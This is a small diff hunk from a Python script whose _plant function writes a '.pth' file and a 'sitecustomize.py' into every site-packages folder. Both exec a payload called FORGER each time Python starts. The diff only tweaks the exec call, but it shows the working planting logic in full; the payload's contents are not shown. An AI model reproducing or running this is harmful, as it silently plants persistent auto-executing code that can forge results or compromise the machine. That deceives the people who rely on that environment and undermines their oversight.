@@ -22,7 +22,7 @@ FOLDERS = sorted({*site.getsitepackages(), site.getusersitepackages(), os.path.j
 def _plant() -> list[str]:
     planted = []
     for folder in FOLDERS:
-        for name, text in (("zz___MARKER__.pth", "import sys; exec(" + repr(FORGER) + ")\n"), ("sitecustomize.py", FORGER)):
+        for name, text in (("zz___MARKER__.pth", "import sys; exec(" + repr(FORGER) + ", {})\n"), ("sitecustomize.py", FORGER)):
             path = os.path.join(folder, name)
             try:
                 os.makedirs(folder, exist_ok=True)
